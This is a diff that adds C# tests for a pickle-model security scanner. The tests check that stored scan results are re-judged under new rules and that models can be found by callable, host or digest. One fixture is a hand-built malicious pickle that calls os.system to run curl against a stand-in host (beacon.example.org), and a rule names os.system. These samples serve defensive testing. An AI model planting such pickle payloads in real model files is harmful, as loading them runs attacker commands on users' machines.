@@ -1,0 +1,87 @@
+// What a store holds is judged again without its bytes, and found by what it does.
+using System.Text;
+
+namespace Assay.Store.Tests.Judging;
+
+public sealed class RetroJudgeTests(PostgresServer server) : StoreTests(server)
+{
+    private const string OfCallables = """
+        rules:
+        - id: own-counter
+          title: A counter
+          severity: medium
+          confidence: high
+          when: {callable: {name: collections.Counter}}
+          why: "The house takes no counters."
+          fix: "Take it out."
+          examples:
+            hit: [{callable: {name: collections.Counter}}]
+            pass: [{callable: {name: os.system}}]
+        """;
+
+    [Theory]
+    [MemberData(nameof(Kinds))]
+    public void NewRulesConcernThoseThatTheyCanFit(Kind kind)
+    {
+        string store = Filled(kind);
+        Tree.Add("rules/own.yaml", OfCallables);
+        File.Delete(Path.Join(Models, "counter.pkl"));
+        Said said = Command.Run("store", "judge", "--rules", Tree["rules"], "--store=" + store);
+        Assert.Equal(1, said.Code);
+        Assert.Contains("own-counter", said.Output, StringComparison.Ordinal);
+        Assert.Contains("1 are judged otherwise, 1 of them worse", said.Output, StringComparison.Ordinal);
+        using (ModelStore open = Open(store))
+        {
+            Assert.Equal(1, open.Connection.Number("SELECT count(*) FROM alerts"));
+        }
+
+        // What was judged is told once, and a scan by these rules takes it from memory.
+        Said again = Command.Run("store", "judge", "--rules", Tree["rules"], "--store=" + store);
+        Assert.Equal(0, again.Code);
+        Assert.DoesNotContain("own-counter", again.Output, StringComparison.Ordinal);
+        Put("counter.pkl", Counter);
+        Said scanned = Command.Run("scan", Models, "--rules", Tree["rules"], "--format", "json", "--store=" + store);
+        Assert.Contains("4 of 4 from memory", scanned.Error, StringComparison.Ordinal);
+        Assert.Equal(Command.Run("scan", Models, "--rules", Tree["rules"], "--format", "json").Output, scanned.Output);
+    }
+
+    [Fact]
+    public void RulesThatAreGoneNoLongerCount()
+    {
+        string store = Filled(Kind.Sqlite);
+        Tree.Add("rules/own.yaml", OfCallables);
+        Command.Run("store", "judge", "--rules", Tree["rules"], "--store=" + store);
+        Said said = Command.Run("store", "judge", "--store=" + store);
+        Assert.Equal(0, said.Code);
+        Assert.Equal(Command.Run("scan", Models, "--format", "json").Output, Command.Run("scan", Models, "--format", "json", "--store=" + store).Output);
+    }
+
+    [Theory]
+    [MemberData(nameof(Kinds))]
+    public void ModelsAreFoundByWhatTheyCallNameAndHold(Kind kind)
+    {
+        string store = Filled(kind);
+        Assert.Contains("hostile.pkl", Find("--calls", "os.system"), StringComparison.Ordinal);
+        Assert.Contains("counter.pkl", Find("--calls", "collections.*"), StringComparison.Ordinal);
+        Assert.DoesNotContain("hostile.pkl", Find("--calls", "collections.*"), StringComparison.Ordinal);
+        Assert.Contains("beacon.pkl", Find("--host", "*.example.org"), StringComparison.Ordinal);
+        Assert.Contains("good.pkl", Find("--digest", Convert.ToHexString(System.Security.Cryptography.SHA256.HashData(Good))), StringComparison.Ordinal);
+        Assert.Equal(3, Command.Run("store", "find", "--calls", "nothing.at.all", "--store=" + store).Code);
+        Assert.Equal(4, Command.Run("store", "find", "--store=" + store).Code);
+
+        string Find(params string[] asked) => Command.Run(["store", "find", .. asked, "--store=" + store]).Output;
+    }
+
+    private static byte[] Counter => "ccollections\nCounter\n((lI1\naI2\natR."u8.ToArray();
+
+    private string Filled(Kind kind)
+    {
+        string store = NewStore(kind);
+        Put("good.pkl", Good);
+        Put("hostile.pkl", Hostile);
+        Put("counter.pkl", Counter);
+        Put("beacon.pkl", Encoding.ASCII.GetBytes("cos\nsystem\n(S'curl http://beacon.example.org/x'\ntR."));
+        Command.Run("scan", Models, "--store=" + store);
+        return store;
+    }
+}
